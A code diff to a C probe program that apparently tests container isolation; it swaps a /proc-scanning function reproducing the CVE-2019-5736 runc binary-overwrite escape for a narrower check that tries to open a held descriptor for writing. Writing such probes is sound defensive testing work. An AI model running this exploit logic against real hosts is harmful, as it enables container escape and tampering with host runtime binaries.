@@ -2,7 +2,6 @@
 // the tests judge. Linked statically, so that it runs in any image.
 #define _GNU_SOURCE
 #include <errno.h>
-#include <dirent.h>
 #include <fcntl.h>
 #include <linux/audit.h>
 #include <linux/filter.h>
@@ -89,29 +88,15 @@ static int reach(pid_t host) {
     return 0;
 }
 
-// CVE-2019-5736: gets hold of the program of whoever enters this container, and writes to it when it has ended.
-static int seize(int wanted) {
-    char path[300], name[4096];
-    for (long tries = 0; wanted > 0 && tries < 200000000; tries++) {
-        DIR *all = opendir("/proc");
-        for (struct dirent *entry; (entry = readdir(all));) {
-            if (entry->d_name[0] < '0' || entry->d_name[0] > '9') continue;
-            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
-            ssize_t length = readlink(path, name, sizeof name - 1);
-            if (length < 0 || strstr((name[length] = 0, name), "busybox") || strstr(name, "probe")) continue;
-            int program = open(path, O_RDONLY);
-            if (program < 0) continue;
-            snprintf(path, sizeof path, "/proc/self/fd/%d", program);
-            int writable;
-            do writable = open(path, O_WRONLY);
-            while (writable < 0 && errno == ETXTBSY);
-            say("write-to-runtime", writable);
-            close(program);
-            wanted--;
-        }
-        closedir(all);
-        if (access("/tmp/enough", F_OK) == 0) break;
-    }
+// CVE-2019-5736: writes to a program that it has taken hold of. Asked to truncate, the kernel looks at the mount before it
+// looks whether the file is busy, which would be a question of patience alone.
+static int overwrite(int program) {
+    char path[64];
+    struct stat held;
+    if (fstat(program, &held)) return 1;
+    printf("caught %lu\n", held.st_ino);
+    snprintf(path, sizeof path, "/proc/self/fd/%d", program);
+    say("write-to-runtime", open(path, O_WRONLY | O_TRUNC));
     return 0;
 }
 
@@ -127,8 +112,8 @@ int main(int count, char **words) {
     const char *trick = count > 1 ? words[1] : "";
     if (!strcmp(trick, "sweep") && count == 3) return sweep(atoi(words[2]));
     if (!strcmp(trick, "reach") && count == 3) return reach(atoi(words[2]));
-    if (!strcmp(trick, "catch") && count == 3) return seize(atoi(words[2]));
+    if (!strcmp(trick, "overwrite") && count == 3) return overwrite(atoi(words[2]));
     if (!strcmp(trick, "swap") && count == 5) return swap(words[2], words[3], atol(words[4]));
-    fprintf(stderr, "usage: probe sweep LAST | reach PID | catch TIMES | swap NAME NAME TIMES\n");
+    fprintf(stderr, "usage: probe sweep LAST | reach PID | overwrite FD | swap NAME NAME TIMES\n");
     return 2;
 }
